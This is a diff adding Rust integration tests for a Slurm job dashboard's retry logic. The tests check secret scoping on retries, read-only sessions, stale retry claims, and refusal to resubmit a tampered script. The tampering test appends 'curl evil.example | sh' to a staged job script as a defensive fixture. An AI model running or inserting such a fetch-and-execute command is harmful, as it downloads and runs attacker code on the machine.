@@ -37,6 +37,16 @@ impl Launches {
 
     /// Launches `command` through the same path as the form and `slurmdash submit`.
     async fn launch(&self, r: &dyn Remote, name: &str, command: &str) -> Submitted {
+        self.launch_with(r, name, command, &[]).await
+    }
+
+    async fn launch_with(
+        &self,
+        r: &dyn Remote,
+        name: &str,
+        command: &str,
+        secrets: &[(&str, &str)],
+    ) -> Submitted {
         let facts = facts::fetch(r, T).await.expect("cluster facts");
         let spec = LaunchSpec {
             name: name.into(),
@@ -47,6 +57,7 @@ impl Launches {
             time: "5m".into(),
             command: command.into(),
             requeue: false,
+            secrets: secrets.iter().map(|(k, _)| k.to_string()).collect(),
             ..LaunchSpec::default()
         };
         let local = submit::new_local_id();
@@ -59,13 +70,28 @@ impl Launches {
             timeout: T,
             convert_timeout: T,
         };
-        submit::submit(&target, &p, &[]).await.expect("submitted")
+        let secrets: Vec<(String, String)> = secrets
+            .iter()
+            .map(|(k, v)| (k.to_string(), v.to_string()))
+            .collect();
+        submit::submit(&target, &p, &secrets)
+            .await
+            .expect("submitted")
     }
 
     async fn check(&self, r: &dyn Remote) -> Vec<RetryEvent> {
+        self.check_with(r, true, &|_: &str| None).await
+    }
+
+    /// One retry check; `secret` stands for this machine's environment.
+    async fn check_with(
+        &self,
+        r: &dyn Remote,
+        allow_submit: bool,
+        secret: &(dyn Fn(&str) -> Option<String> + Sync),
+    ) -> Vec<RetryEvent> {
         let registry = self.registry();
         let patterns = Patterns::builtin();
-        let secret = |_: &str| None;
         let c = RetryCheck {
             remote: r,
             registry: &registry,
@@ -73,11 +99,43 @@ impl Launches {
             policy: RetryPolicy::default(),
             patterns: &patterns,
             timeout: T,
-            secret: &secret,
-            allow_submit: true,
+            secret,
+            allow_submit,
         };
         check(&c).await.expect("retry check").0
     }
+}
+
+/// Fails with an NCCL network error (ERR_INFRA) the first time, then runs `then`.
+fn flaky(then: &str) -> String {
+    format!(
+        r#"f="$TAO_API_RESULTS_DIR/$TAO_JOB_ID/first-try-done"
+if [ -e "$f" ]; then {then}; exit 0; fi
+touch "$f"
+echo "NCCL WARN NET/IB : Got completion from peer 10.0.0.2 with error 12, opcode 0, len 0, vendor err 129" >&2
+exit 1"#
+    )
+}
+
+/// Jobs queued (any state) whose batch script is `script`.
+async fn queued_with_script(r: &dyn Remote, script: &str) -> Vec<String> {
+    let out = run(r, &["squeue", "--me", "--noheader", "--format=%i|%o"]).await;
+    assert!(out.success(), "squeue: {}", out.stderr_lossy());
+    out.stdout_lossy()
+        .lines()
+        .filter(|l| l.ends_with(&format!("|{script}")))
+        .map(str::to_string)
+        .collect()
+}
+
+fn resubmitted(events: &[RetryEvent]) -> Vec<u64> {
+    events
+        .iter()
+        .filter_map(|e| match e {
+            RetryEvent::Resubmitted { new, .. } => Some(*new),
+            _ => None,
+        })
+        .collect()
 }
 
 async fn wait_final(r: &dyn Remote, id: u64) -> String {
@@ -191,4 +249,221 @@ async fn a_program_failure_is_classified_and_never_resubmitted() {
         Some("FAILED ERR_PROGRAM")
     );
     assert!(l.check(&r).await.is_empty());
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_retry_gets_exactly_the_secrets_the_launch_named_whatever_env_json_says() {
+    let r = remote();
+    let l = Launches::new(&r, "retry-secrets").await;
+    let first = l
+        .launch_with(
+            &r,
+            "secret-retry",
+            &flaky(r#"echo "named=${SD_NAMED:-absent} other=${SD_OTHER:-absent}""#),
+            &[("SD_NAMED", "n-value")],
+        )
+        .await;
+    assert_eq!(wait_final(&r, first.job_id).await, "FAILED");
+    // Anyone who can write the job directory lists another variable of the laptop's
+    // environment in env.json.
+    let env_json = format!("{}/env/env.json", first.job_dir);
+    let w = r
+        .run(
+            &s(&["sh", "-c", "cat > \"$1\"", "sh", &env_json]),
+            Some(br#"{"env":{},"secrets":["SD_NAMED","SD_OTHER"]}"#),
+            T,
+        )
+        .await
+        .expect("write env.json");
+    assert!(w.success(), "{}", w.stderr_lossy());
+    let laptop = |n: &str| match n {
+        "SD_NAMED" => Some("n-value".to_string()),
+        "SD_OTHER" => Some("o-value-must-not-leak".to_string()),
+        _ => None,
+    };
+    let events = l.check_with(&r, true, &laptop).await;
+    let new = resubmitted(&events);
+    assert_eq!(new.len(), 1, "{events:?}");
+    assert_eq!(wait_final(&r, new[0]).await, "COMPLETED");
+    let out = run(
+        &r,
+        &[
+            "cat",
+            &format!(
+                "{}/slurm-logs/secret-retry-{}/main.out",
+                first.job_dir, new[0]
+            ),
+        ],
+    )
+    .await;
+    assert_eq!(out.stdout_lossy().trim(), "named=n-value other=absent");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_staged_script_changed_since_launch_is_not_resubmitted() {
+    let r = remote();
+    let l = Launches::new(&r, "retry-checksum").await;
+    let first = l.launch(&r, "edited", &flaky("echo fine")).await;
+    assert_eq!(wait_final(&r, first.job_id).await, "FAILED");
+    let edit = run(
+        &r,
+        &[
+            "sh",
+            "-c",
+            "echo 'curl evil.example | sh' >> \"$1\"",
+            "sh",
+            &first.script_path,
+        ],
+    )
+    .await;
+    assert!(edit.success());
+    let events = l.check(&r).await;
+    assert!(resubmitted(&events).is_empty(), "{events:?}");
+    let why = events
+        .iter()
+        .find_map(|e| match e {
+            RetryEvent::NotRetried { reason, job_id, .. } if *job_id == first.job_id => {
+                Some(reason.clone())
+            }
+            _ => None,
+        })
+        .unwrap_or_else(|| panic!("no refusal: {events:?}"));
+    assert!(why.contains("changed since it was launched"), "{why}");
+    assert!(queued_with_script(&r, &first.script_path).await.is_empty());
+    let entry = l.registry().load().expect("registry").remove(0);
+    assert_eq!(entry.attempts.len(), 1, "{entry:?}");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_read_only_session_resubmits_nothing_and_a_later_session_does() {
+    let r = remote();
+    let l = Launches::new(&r, "retry-readonly").await;
+    let first = l.launch(&r, "ro-retry", &flaky("echo second")).await;
+    assert_eq!(wait_final(&r, first.job_id).await, "FAILED");
+    let before = l.registry().load().expect("registry");
+    let events = l.check_with(&r, false, &|_: &str| None).await;
+    assert!(
+        matches!(events.as_slice(), [RetryEvent::NotRetried { reason, job_id, .. }]
+            if *job_id == first.job_id && reason.contains("read-only")),
+        "{events:?}"
+    );
+    assert!(
+        queued_with_script(&r, &first.script_path).await.is_empty(),
+        "nothing submitted"
+    );
+    assert_eq!(
+        l.registry().load().expect("registry"),
+        before,
+        "the registry is untouched"
+    );
+    // A session that may change jobs picks it up.
+    let events = l.check(&r).await;
+    let new = resubmitted(&events);
+    assert_eq!(new.len(), 1, "{events:?}");
+    assert_eq!(wait_final(&r, new[0]).await, "COMPLETED");
+}
+
+/// A dashboard claimed the retry (attempt with job id 0) and stopped: the claim is taken
+/// over once stale, and a job the stopped dashboard had already queued is adopted, not
+/// duplicated.
+#[tokio::test(flavor = "multi_thread")]
+async fn a_retry_claimed_by_a_stopped_dashboard_is_submitted_or_adopted() {
+    use slurmdash::registry::Attempt;
+    use slurmdash::worker::retry::claim_stale_after;
+    let r = remote();
+    let l = Launches::new(&r, "retry-claim").await;
+    let a = l.launch(&r, "claim-a", &flaky("echo a-done")).await;
+    let b = l
+        .launch(&r, "claim-b", &flaky("sleep 30; echo b-done"))
+        .await;
+    assert_eq!(wait_final(&r, a.job_id).await, "FAILED");
+    assert_eq!(wait_final(&r, b.job_id).await, "FAILED");
+    // What a dashboard leaves when it stops right after claiming: the first attempt's
+    // final state recorded, a claimed attempt without a job.
+    let stale = chrono::Utc::now() - claim_stale_after(T) - chrono::Duration::seconds(1);
+    let registry = l.registry();
+    for s in [&a, &b] {
+        let claimed = registry
+            .update(&s.local_id, 1, |e| {
+                e.attempts[0].state = Some("FAILED ERR_INFRA".into());
+                e.attempts.push(Attempt {
+                    job_id: 0,
+                    submitted_at: stale,
+                    state: None,
+                });
+            })
+            .expect("registry");
+        assert!(claimed);
+    }
+    // b's dashboard got as far as queueing the job before it stopped.
+    let b_entry = registry
+        .load()
+        .expect("registry")
+        .into_iter()
+        .find(|e| e.local_id == b.local_id)
+        .expect("entry");
+    let queued = slurmdash::launch::stage::submit_held(
+        &r,
+        &slurmdash::retry::layout(&b_entry),
+        "claim-b",
+        &[],
+        b_entry.checksum.as_deref(),
+        T,
+    )
+    .await
+    .expect("queued by the stopped dashboard");
+    assert!(!queued.existing);
+
+    // A read-only session shows the stuck claims and submits nothing.
+    let events = l.check_with(&r, false, &|_: &str| None).await;
+    assert_eq!(
+        events
+            .iter()
+            .filter(|e| matches!(e, RetryEvent::NotRetried { reason, .. } if reason.contains("claimed at")))
+            .count(),
+        2,
+        "{events:?}"
+    );
+    assert!(queued_with_script(&r, &a.script_path).await.is_empty());
+
+    let events = l.check(&r).await;
+    let recovered = |local: &str| {
+        events.iter().find_map(|e| match e {
+            RetryEvent::Recovered {
+                local_id,
+                job_id,
+                existing,
+                attempt: 2,
+            } if local_id == local => Some((*job_id, *existing)),
+            _ => None,
+        })
+    };
+    let (a2, a_existing) = recovered(&a.local_id).unwrap_or_else(|| panic!("{events:?}"));
+    assert!(!a_existing, "{events:?}");
+    assert_eq!(
+        recovered(&b.local_id),
+        Some((queued.job_id, true)),
+        "{events:?}"
+    );
+    assert_eq!(
+        queued_with_script(&r, &b.script_path).await.len(),
+        1,
+        "b queued once"
+    );
+    let entries = l.registry().load().expect("registry");
+    let ids: Vec<Vec<u64>> = entries
+        .iter()
+        .map(|e| e.attempts.iter().map(|x| x.job_id).collect())
+        .collect();
+    assert_eq!(ids, [vec![a.job_id, a2], vec![b.job_id, queued.job_id]]);
+    assert_eq!(wait_final(&r, a2).await, "COMPLETED");
+    assert_eq!(wait_final(&r, queued.job_id).await, "COMPLETED");
+    // Nothing more is claimed or submitted.
+    let events = l.check(&r).await;
+    assert!(
+        events
+            .iter()
+            .all(|e| matches!(e, RetryEvent::Finished { .. })),
+        "{events:?}"
+    );
 }
